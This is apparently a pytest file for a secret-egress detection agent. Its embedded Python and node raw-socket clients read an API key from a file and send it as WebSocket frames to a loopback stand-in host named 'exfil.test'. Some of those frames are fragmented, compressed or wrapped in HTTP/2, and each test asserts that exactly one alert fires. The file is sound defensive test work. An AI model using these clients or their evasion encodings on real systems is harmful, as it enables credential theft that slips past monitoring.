"""Keys sent over WebSocket (issue 15, item 1), on the real kernel.

The clients are written on raw sockets (Python, and node's `net`), so every byte on the wire is
the test's own: the upgrade request, masked frames, fragments with a ping between them,
permessage-deflate messages whose second copy of the key is only a back-reference into the
first, and an HTTP/2 extended CONNECT (RFC 8441) stream carrying a frame. They run in the test
cgroup and talk plain TCP to a small WebSocket server on loopback (a thread of this process,
outside the cgroup) that answers 101, unmasks and inflates what it gets, and records a digest
of each message, so the test knows the key really arrived. The alert
must name the key's kind, the loopback destination and the client process.
"""

import base64
import hashlib
import json
import shutil
import socket
import socketserver
import struct
import threading
import time
import zlib

import pytest

from kharness import env
from kharness.servers import sha256

ALERT_TIMEOUT = 5.0
QUIET_PERIOD = 3.0
IO_TIMEOUT = 10.0
GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def _read_exactly(conn: socket.socket, n: int, buf: bytearray) -> bytes:
    while len(buf) < n:
        chunk = conn.recv(65536)
        if not chunk:
            raise ConnectionError("client closed mid-frame")
        buf += chunk
    out = bytes(buf[:n])
    del buf[:n]
    return out


class LoopbackWebSocketServer(socketserver.ThreadingTCPServer):
    """Answers the upgrade (accepting permessage-deflate when offered) and records the sha256 of
    every text or binary message it reassembles, after unmasking and inflating."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), _Connection)
        self.port = self.server_address[1]
        self.messages: list[str] = []
        self._got = threading.Condition()
        self._thread = threading.Thread(target=self.serve_forever, args=(0.2,), daemon=True)
        self._thread.start()

    def _handle(self, conn: socket.socket) -> None:
        conn.settimeout(IO_TIMEOUT)
        buf = bytearray()
        try:
            while len(buf) < len(H2_PREFACE) and b"\r\n\r\n" not in buf:
                chunk = conn.recv(4096)
                if not chunk:
                    return
                buf += chunk
            if buf.startswith(H2_PREFACE):
                self._frames(self._h2_stream_data(conn, buf), lambda: None)
                return
            while b"\r\n\r\n" not in buf:
                chunk = conn.recv(4096)
                if not chunk or len(buf) > 16384:
                    return
                buf += chunk
            head, _, rest = bytes(buf).partition(b"\r\n\r\n")
            buf = bytearray(rest)
            headers = {}
            for line in head.split(b"\r\n")[1:]:
                name, _, value = line.partition(b":")
                headers[name.strip().lower()] = value.strip()
            accept = base64.b64encode(hashlib.sha1(headers[b"sec-websocket-key"] + GUID).digest())
            deflate = b"permessage-deflate" in headers.get(b"sec-websocket-extensions", b"")
            reply = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
            reply += b"Connection: Upgrade\r\nSec-WebSocket-Accept: " + accept + b"\r\n"
            if deflate:
                reply += b"Sec-WebSocket-Extensions: permessage-deflate\r\n"
            conn.sendall(reply + b"\r\n")
            self._frames(lambda n: _read_exactly(conn, n, buf), lambda: conn.sendall(b"\x88\x00"))
        except (OSError, KeyError, ValueError, zlib.error):
            pass
        finally:
            conn.close()

    @staticmethod
    def _h2_stream_data(conn: socket.socket, buf: bytearray):
        """RFC 8441: the DATA of stream 1 (the extended CONNECT) until the client ends it, as a
        reader of n bytes at a time."""
        del buf[:len(H2_PREFACE)]
        data = bytearray()
        while True:
            head = b"\0" + _read_exactly(conn, 9, buf)
            length, kind, flags, stream = struct.unpack(">IBBI", head)
            payload = _read_exactly(conn, length, buf)
            if kind == 0 and stream == 1:
                data += payload
                if flags & 0x1:
                    break

        def read(n: int) -> bytes:
            if len(data) < n:
                raise ConnectionError("stream ended mid-frame")
            out = bytes(data[:n])
            del data[:n]
            return out
        return read

    def _frames(self, read, on_close) -> None:
        inflater = zlib.decompressobj(-15)
        message, compressed = b"", False
        while True:
            b0, b1 = read(2)
            length = b1 & 0x7F
            if length == 126:
                (length,) = struct.unpack(">H", read(2))
            elif length == 127:
                (length,) = struct.unpack(">Q", read(8))
            mask = read(4) if b1 & 0x80 else b"\0\0\0\0"
            payload = bytes(c ^ mask[i & 3] for i, c in enumerate(read(length)))
            opcode = b0 & 0x0F
            if opcode == 0x8:
                on_close()
                return
            if opcode >= 0x8:
                continue  # ping / pong
            if opcode != 0:
                message, compressed = b"", bool(b0 & 0x40)
            message += payload
            if b0 & 0x80:
                if compressed:
                    message = inflater.decompress(message + b"\x00\x00\xff\xff")
                with self._got:
                    self.messages.append(sha256(message))
                    self._got.notify_all()

    def wait_for_messages(self, n: int, timeout: float = IO_TIMEOUT) -> list[str]:
        with self._got:
            self._got.wait_for(lambda: len(self.messages) >= n, timeout=timeout)
            return list(self.messages)

    def close(self) -> None:
        self.shutdown()
        self._thread.join(timeout=2)
        self.server_close()


class _Connection(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        self.server._handle(self.request)


@pytest.fixture
def ws_server():
    server = LoopbackWebSocketServer()
    yield server
    server.close()


# The Python client: argv port, key file, mode. Each frame is its own sendall (own write), and
# the client waits for the 101 before sending frames, as real clients do.
PYTHON_CLIENT = r'''
import os, socket, struct, sys, zlib
port, key_file, mode = int(sys.argv[1]), sys.argv[2], sys.argv[3]
key = open(key_file).read().strip()

def frame(payload, opcode=1, fin=True, rsv1=False):
    mask = os.urandom(4)
    head = bytes([(0x80 if fin else 0) | (0x40 if rsv1 else 0) | opcode])
    n = len(payload)
    if n < 126:
        head += bytes([0x80 | n])
    elif n <= 0xFFFF:
        head += bytes([0x80 | 126]) + struct.pack(">H", n)
    else:
        head += bytes([0x80 | 127]) + struct.pack(">Q", n)
    return head + mask + bytes(c ^ mask[i & 3] for i, c in enumerate(payload))

s = socket.create_connection(("127.0.0.1", port), timeout=10)
message = ('{"type":"auth","token":"%s"}' % key).encode()
if mode == "h2":
    # RFC 8441 over cleartext HTTP/2 (prior knowledge): HPACK literals without indexing.
    def h2(kind, flags, payload):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + b"\0\0\0\1" + payload
    block = b"".join(b"\0" + bytes([len(n)]) + n + bytes([len(v)]) + v for n, v in [
        (b":method", b"CONNECT"), (b":protocol", b"websocket"), (b":scheme", b"http"),
        (b":path", b"/socket"), (b":authority", b"exfil.test")])
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + struct.pack(">I", 0)[1:] + b"\4\0\0\0\0\0")
    s.sendall(struct.pack(">I", len(block))[1:] + b"\1\4\0\0\0\1" + block)
    s.sendall(h2(0, 0, frame(message)))
    s.sendall(h2(0, 1, frame(b"\x03\xe8", opcode=0x8)))
    s.shutdown(socket.SHUT_WR)
    s.recv(16)
    sys.exit(0)
offer = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n"
s.sendall(("GET /socket HTTP/1.1\r\nHost: exfil.test\r\nUpgrade: websocket\r\n"
           "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
           "Sec-WebSocket-Version: 13\r\n" + (offer if mode == "deflate" else "") +
           "\r\n").encode())
reply = b""
while b"\r\n\r\n" not in reply:
    chunk = s.recv(4096)
    if not chunk:
        sys.exit("no reply")
    reply += chunk
if b" 101 " not in reply.split(b"\r\n", 1)[0]:
    sys.exit("upgrade refused")
if mode == "masked":
    s.sendall(frame(message))
elif mode == "fragmented":
    cut = message.index(key.encode()) + len(key) // 2
    s.sendall(frame(message[:cut - 5], fin=False))
    s.sendall(frame(b"keepalive", opcode=0x9))
    s.sendall(frame(message[cut - 5:cut], opcode=0, fin=False))
    s.sendall(frame(message[cut:], opcode=0))
else:
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    for _ in range(2):  # the second is a back-reference into the first (context takeover)
        data = deflater.compress(message) + deflater.flush(zlib.Z_SYNC_FLUSH)
        s.sendall(frame(data[:-4], rsv1=True))
s.sendall(frame(b"\x03\xe8", opcode=0x8))
s.recv(16)
s.close()
'''

# The node client: the same masked text frame, with node's own TLS-free `net` socket.
NODE_CLIENT = r'''
const net = require("net"), fs = require("fs"), crypto = require("crypto");
const [port, keyFile] = [Number(process.argv[2]), process.argv[3]];
const key = fs.readFileSync(keyFile, "utf8").trim();
function frame(payload, opcode) {
  const mask = crypto.randomBytes(4);
  const head = payload.length < 126 ? Buffer.from([0x80 | opcode, 0x80 | payload.length])
      : Buffer.from([0x80 | opcode, 0x80 | 126, payload.length >> 8, payload.length & 255]);
  const body = Buffer.from(payload.map((c, i) => c ^ mask[i & 3]));
  return Buffer.concat([head, mask, body]);
}
const s = net.connect(port, "127.0.0.1", () => {
  s.write("GET /socket HTTP/1.1\r\nHost: exfil.test\r\nUpgrade: websocket\r\n" +
          "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n" +
          "Sec-WebSocket-Version: 13\r\n\r\n");
});
let reply = Buffer.alloc(0), upgraded = false;
s.on("data", (d) => {
  if (upgraded) return s.end();
  reply = Buffer.concat([reply, d]);
  if (!reply.includes("\r\n\r\n")) return;
  if (!reply.toString().startsWith("HTTP/1.1 101")) process.exit(3);
  upgraded = true;
  s.write(frame(Buffer.from(JSON.stringify({type: "auth", token: key})), 1));
  s.write(frame(Buffer.from([3, 232]), 8));
});
setTimeout(() => process.exit(4), 10000).unref();
'''


def _shown(agent, alerts) -> str:
    return agent.registry.redact(json.dumps(alerts, indent=1))[:4000]


def _wait_counter(agent, name, at_least=1, timeout=5.0) -> int:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if agent.counter(name) >= at_least:
            break
        time.sleep(0.2)
    return agent.counter(name)


def _expect_alert(agent, ws_server, comm_prefix):
    alerts = agent.wait_for_alerts(
        lambda a: (a.get("secret") or {}).get("provider") == "openai", timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for a key sent over WebSocket\n{agent.diagnostics()}"
    alert = alerts[0]
    assert alert["secret"]["type"] == "openai-project-key", _shown(agent, alerts)
    assert alert["kind"] == "secret-egress", _shown(agent, alerts)
    dest = alert["destination"]
    assert (dest["ip"], dest["port"]) == ("127.0.0.1", ws_server.port), _shown(agent, alerts)
    assert "api.openai.com" in dest["expected"], _shown(agent, alerts)
    assert alert["process"]["comm"].startswith(comm_prefix), _shown(agent, alerts)
    assert "websocket" in json.dumps(alert.get("evidence") or {}), _shown(agent, alerts)
    assert alert["secret"]["redacted"] and alert["secret"]["fingerprint"]
    time.sleep(QUIET_PERIOD)
    everything = agent.alerts()
    assert len(everything) == 1, f"want exactly one alert:\n{_shown(agent, everything)}"


@pytest.mark.parametrize("mode,messages", [("masked", 1), ("fragmented", 1), ("deflate", 2),
                                           ("h2", 1)])
def test_key_in_websocket_messages_alerts(mode, messages, agent, clients, ws_server, registry,
                                          scratch):
    key = registry.new("openai")
    key_file = scratch / "key"
    key_file.write_text(key)
    script = scratch / "ws_client.py"
    script.write_text(PYTHON_CLIENT)
    clients.run(["/usr/bin/python3", str(script), str(ws_server.port), str(key_file), mode])
    message = json.dumps({"type": "auth", "token": key}, separators=(",", ":"))
    assert ws_server.wait_for_messages(messages) == [sha256(message)] * messages
    _expect_alert(agent, ws_server, "python3")
    assert _wait_counter(agent, "websocket_upgrades") == 1, agent.diagnostics()
    assert _wait_counter(agent, "websocket_messages", messages) == messages, agent.diagnostics()
    assert agent.counter("websocket_bad_frames") == 0, agent.diagnostics()
    assert agent.counter("websocket_inflate_failed") == 0, agent.diagnostics()


def test_key_from_a_node_websocket_client_alerts(agent, clients, ws_server, registry, scratch):
    node = shutil.which("node")
    env.require(node is not None, "node is not installed")
    key = registry.new("openai")
    key_file = scratch / "key"
    key_file.write_text(key)
    script = scratch / "ws_client.js"
    script.write_text(NODE_CLIENT)
    clients.run([node, str(script), str(ws_server.port), str(key_file)])
    message = json.dumps({"type": "auth", "token": key}, separators=(",", ":"))
    assert ws_server.wait_for_messages(1) == [sha256(message)]
    _expect_alert(agent, ws_server, "node")
